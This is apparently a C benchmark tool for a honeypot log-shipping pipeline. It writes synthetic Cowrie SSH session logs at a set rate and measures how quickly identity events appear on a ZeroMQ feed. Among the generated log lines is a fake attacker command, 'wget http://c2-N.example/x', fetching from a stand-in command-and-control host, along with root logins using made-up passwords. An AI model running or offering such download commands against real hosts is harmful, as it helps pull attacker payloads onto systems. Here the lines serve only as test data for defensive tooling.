/*  ship_bench.c - the log shipper's latency from a line written to its identity event, for
    `make bench` (bench/run.sh, docs/bench.md "shipper latency").

    usage: cadre_ship_bench --log FILE --events E --rate LINES_PER_S --seconds T
                            [--new-share P] [--actors N] [--wait-s W] [--seed S]

    Appends Cowrie JSON lines to FILE (O_APPEND, as Cowrie writes its log) at a fixed rate
    for T seconds, while a `cadre ship` started separately follows FILE and feeds a running
    engine. Lines are written every 5 ms, as many as the rate makes due, whole lines only,
    so a session's lines may land in two writes. Each session is six events (connect, client
    version, kex with its actor's HASSH, a login, a command, closed) a few milliseconds of
    event time apart; a share P (default 0.5) of sessions come from a source IP never seen
    before, the others from one seen before (their appends give no new identity). The time
    of the write() that carried a new source's first line is its start; the first
    identity.formed or identity.observation.linked event naming its observation
    ("cowrie:<ip>") read on a SUB socket of the merger's event endpoint E is its end. Both
    clocks are this process's CLOCK_MONOTONIC. After T seconds it waits up to W seconds
    (default 10) for the events still missing.

    Prints one JSON object: lines, sessions, sources (new source IPs), matched, missing,
    seconds (the writing period), lines_per_s (achieved), lat_ms_p50/p90/p99/max.
    Exit status 0; 1 on an I/O error; 2 on a usage error.
*/
#include "wire.h"
#include "xalloc.h"

#include <czmq.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <xxhash.h>

#define S_TICK_MS 5 /* writes are this far apart */
#define S_LINES_PER_SESSION 6

static double
s_now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + 1e-9 * (double)ts.tv_nsec;
}

/*  The new sources: observation id hash -> write time and event time. */
typedef struct {
    uint64_t *keys;  /* open addressing, 0 = empty */
    uint32_t *vals;  /* index + 1 */
    size_t slots;    /* a power of two */
    double *write_t; /* per source: when its first line was written */
    double *event_t; /* per source: its first identity event, 0 until seen */
    size_t n, cap;   /* sources, allocated */
} s_book_t;

static uint64_t
s_key(const char *id)
{
    uint64_t h = XXH3_64bits(id, strlen(id));
    return h ? h : 1;
}

static void
s_put(s_book_t *b, uint64_t h, uint32_t v)
{
    size_t mask = b->slots - 1;
    size_t i = (size_t)h & mask;
    while (b->keys[i] && b->keys[i] != h) {
        i = (i + 1) & mask;
    }
    b->keys[i] = h;
    b->vals[i] = v;
}

static void
s_add(s_book_t *b, const char *id, double t)
{
    if (2 * (b->n + 1) > b->slots) {
        uint64_t *ok = b->keys;
        uint32_t *ov = b->vals;
        size_t os = b->slots;
        b->slots = os ? 2 * os : 1u << 14;
        b->keys = xcalloc(b->slots, sizeof *b->keys);
        b->vals = xcalloc(b->slots, sizeof *b->vals);
        for (size_t i = 0; i < os; i++) {
            if (ok[i]) {
                s_put(b, ok[i], ov[i]);
            }
        }
        free(ok);
        free(ov);
    }
    xgrow(&b->write_t, &b->cap, b->n + 1);
    b->event_t = xrealloc(b->event_t, b->cap * sizeof *b->event_t);
    b->write_t[b->n] = t;
    b->event_t[b->n] = 0;
    b->n++;
    s_put(b, s_key(id), (uint32_t)b->n);
}

static void
s_mark(s_book_t *b, const char *id, double t)
{
    if (!b->slots) {
        return;
    }
    uint64_t h = s_key(id);
    size_t mask = b->slots - 1;
    for (size_t i = (size_t)h & mask; b->keys[i]; i = (i + 1) & mask) {
        if (b->keys[i] == h) {
            size_t k = b->vals[i] - 1;
            if (b->event_t[k] == 0) {
                b->event_t[k] = t;
            }
            return;
        }
    }
}

static void
s_events(zsock_t *sub, s_book_t *b, uint64_t *matched)
{
    zmsg_t *m;
    while ((m = zmsg_recv(sub)) != NULL) {
        double t = s_now();
        zframe_t *topic = zmsg_first(m), *body = zmsg_next(m);
        wire_event_t *ev = NULL;
        if (topic && body &&
            wire_event_decode((const char *)zframe_data(body), zframe_size(body), &ev, NULL, 0) ==
                0) {
            if (ev->kind == EV_IDENTITY_FORMED) {
                for (size_t i = 0; i < ev->n_members; i++) {
                    s_mark(b, ev->members[i], t);
                }
            } else if (ev->kind == EV_IDENTITY_LINKED) {
                for (size_t i = 0; i < ev->n_fields; i++) {
                    if (strcmp(ev->fields[i].key, "observation_uuid") == 0 && ev->fields[i].value) {
                        s_mark(b, ev->fields[i].value, t);
                    }
                }
            }
            wire_event_free(&ev);
        }
        zmsg_destroy(&m);
    }
    uint64_t n = 0;
    for (size_t i = 0; i < b->n; i++) {
        n += b->event_t[i] > 0;
    }
    *matched = n;
}

/*  An ISO-8601 UTC timestamp with microseconds for epoch seconds t. */
static void
s_stamp(double t, char *out, size_t len)
{
    time_t s = (time_t)t;
    struct tm tm;
    gmtime_r(&s, &tm);
    char day[32];
    strftime(day, sizeof day, "%Y-%m-%dT%H:%M:%S", &tm);
    snprintf(out, len, "%s.%06dZ", day, (int)((t - (double)s) * 1e6));
}

/*  Appends line k (0-based) of session sid of ip (actor a) to buf. */
static void
s_line(char **buf, size_t *len, size_t *cap, int k, const char *sid, const char *ip, int a,
       double t)
{
    char ts[48];
    s_stamp(t + 0.002 * k, ts, sizeof ts);
    char body[512];
    switch (k) {
    case 0:
        snprintf(body, sizeof body,
                 "\"eventid\": \"cowrie.session.connect\", \"src_port\": %d, \"dst_port\": 22",
                 40000 + a % 20000);
        break;
    case 1:
        snprintf(body, sizeof body,
                 "\"eventid\": \"cowrie.client.version\", \"version\": \"SSH-2.0-bench_%d\"", a);
        break;
    case 2:
        snprintf(body, sizeof body, "\"eventid\": \"cowrie.client.kex\", \"hassh\": \"%032x\"",
                 a * 2654435761u);
        break;
    case 3:
        snprintf(body, sizeof body,
                 "\"eventid\": \"cowrie.login.success\", \"username\": \"root\", "
                 "\"password\": \"pw-%d\"",
                 a);
        break;
    case 4:
        snprintf(
            body, sizeof body,
            "\"eventid\": \"cowrie.command.input\", \"input\": \"wget http://c2-%d.example/x\"", a);
        break;
    default:
        snprintf(body, sizeof body, "\"eventid\": \"cowrie.session.closed\", \"duration\": 0.01");
        break;
    }
    char line[1024];
    int n = snprintf(line, sizeof line,
                     "{%s, \"timestamp\": \"%s\", \"src_ip\": \"%s\", \"session\": \"%s\", "
                     "\"sensor\": \"bench\"}\n",
                     body, ts, ip, sid);
    xgrow(buf, cap, *len + (size_t)n + 1);
    memcpy(*buf + *len, line, (size_t)n);
    *len += (size_t)n;
}

static int
s_cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static double
s_q(const double *v, size_t n, double q)
{
    if (n == 0) {
        return 0;
    }
    size_t i = (size_t)(q * (double)(n - 1) + 0.5);
    return v[i < n ? i : n - 1];
}

static int
s_usage(void)
{
    fprintf(stderr,
            "usage: cadre_ship_bench --log FILE --events E --rate LINES_PER_S --seconds T\n"
            "                        [--new-share P] [--actors N] [--wait-s W] [--seed S]\n");
    return 2;
}

int
main(int argc, char **argv)
{
    const char *log = NULL, *events = NULL;
    double rate = 0, seconds = 0, new_share = 0.5, wait_s = 10;
    int actors = 500;
    unsigned seed = 1;
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (!v) {
            return s_usage();
        }
        i++;
        if (strcmp(a, "--log") == 0) {
            log = v;
        } else if (strcmp(a, "--events") == 0) {
            events = v;
        } else if (strcmp(a, "--rate") == 0) {
            rate = atof(v);
        } else if (strcmp(a, "--seconds") == 0) {
            seconds = atof(v);
        } else if (strcmp(a, "--new-share") == 0) {
            new_share = atof(v);
        } else if (strcmp(a, "--actors") == 0) {
            actors = atoi(v);
        } else if (strcmp(a, "--wait-s") == 0) {
            wait_s = atof(v);
        } else if (strcmp(a, "--seed") == 0) {
            seed = (unsigned)atoi(v);
        } else {
            return s_usage();
        }
    }
    if (!log || !events || rate <= 0 || seconds <= 0 || actors < 1 || new_share < 0 ||
        new_share > 1) {
        return s_usage();
    }
    zsys_init();
    zsys_handler_set(NULL);
    zsock_t *sub = zsock_new(ZMQ_SUB);
    zsock_set_rcvhwm(sub, 0);
    zsock_set_rcvtimeo(sub, 0);
    zsock_set_subscribe(sub, "identity.formed");
    zsock_set_subscribe(sub, "identity.observation.linked");
    zsock_connect(sub, "%s", events);
    zclock_sleep(300); /* the subscription reaches the PUB before the first event */
    int fd = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (fd < 0) {
        perror(log);
        return 1;
    }
    srand(seed);
    s_book_t book = {0};
    uint64_t lines = 0, sessions = 0, matched = 0, next_ip = 0;
    char *buf = NULL;
    size_t len = 0, cap = 0;
    /* The session being written: its ip, id, actor, next line. */
    char ip[32] = "", sid[32] = "";
    int actor = 0, line_k = S_LINES_PER_SESSION;
    bool fresh = false;
    double wall0 = (double)time(NULL);
    double t0 = s_now(), t_end = t0 + seconds;
    zpoller_t *poller = zpoller_new(sub, NULL);
    int status = 0;
    for (;;) {
        double now = s_now();
        if (now >= t_end) {
            break;
        }
        uint64_t due = (uint64_t)(rate * (now - t0));
        len = 0;
        char first_ip[64][48];
        int n_first = 0;
        while (lines < due) {
            if (line_k == S_LINES_PER_SESSION) {
                line_k = 0;
                sessions++;
                actor = rand() % actors;
                fresh = next_ip == 0 || (double)rand() / RAND_MAX < new_share;
                uint64_t ipn = fresh ? next_ip++ : (uint64_t)rand() % next_ip;
                snprintf(ip, sizeof ip, "10.%u.%u.%u", (unsigned)(ipn >> 16 & 255),
                         (unsigned)(ipn >> 8 & 255), (unsigned)(ipn & 255));
                snprintf(sid, sizeof sid, "b%010" PRIu64, sessions);
                if (fresh && n_first < 64) {
                    snprintf(first_ip[n_first++], sizeof first_ip[0], "cowrie:%s", ip);
                } else if (fresh) {
                    fresh = false; /* more than 64 new sources in one write: not timed */
                }
            }
            s_line(&buf, &len, &cap, line_k++, sid, ip, actor, wall0 + (now - t0));
            lines++;
        }
        if (len > 0) {
            size_t off = 0;
            while (off < len) {
                ssize_t w = write(fd, buf + off, len - off);
                if (w < 0 && errno == EINTR) {
                    continue;
                }
                if (w < 0) {
                    perror(log);
                    status = 1;
                    break;
                }
                off += (size_t)w;
            }
            double wt = s_now();
            for (int i = 0; i < n_first; i++) {
                s_add(&book, first_ip[i], wt);
            }
        }
        if (status != 0) {
            break;
        }
        if (zpoller_wait(poller, S_TICK_MS)) {
            s_events(sub, &book, &matched);
        }
    }
    double t_stop = s_now();
    double deadline = t_stop + wait_s;
    while (matched < book.n && s_now() < deadline) {
        if (zpoller_wait(poller, 50)) {
            s_events(sub, &book, &matched);
        }
    }
    double *lat = xcalloc(book.n + 1, sizeof *lat);
    size_t n = 0;
    for (size_t i = 0; i < book.n; i++) {
        if (book.event_t[i] > 0) {
            double d = book.event_t[i] - book.write_t[i];
            lat[n++] = d > 0 ? d : 0;
        }
    }
    qsort(lat, n, sizeof *lat, s_cmp_double);
    printf("{\"lines\": %" PRIu64 ", \"sessions\": %" PRIu64
           ", \"sources\": %zu, \"matched\": %zu, "
           "\"missing\": %zu, \"seconds\": %.3f, \"lines_per_s\": %.1f, \"lat_ms_p50\": %.1f, "
           "\"lat_ms_p90\": %.1f, \"lat_ms_p99\": %.1f, \"lat_ms_max\": %.1f}\n",
           lines, sessions, book.n, n, book.n - n, t_stop - t0, (double)lines / (t_stop - t0),
           1e3 * s_q(lat, n, 0.50), 1e3 * s_q(lat, n, 0.90), 1e3 * s_q(lat, n, 0.99),
           1e3 * s_q(lat, n, 1.0));
    close(fd);
    free(lat);
    free(buf);
    free(book.keys);
    free(book.vals);
    free(book.write_t);
    free(book.event_t);
    zpoller_destroy(&poller);
    zsock_destroy(&sub);
    zsys_shutdown();
    return status;
}
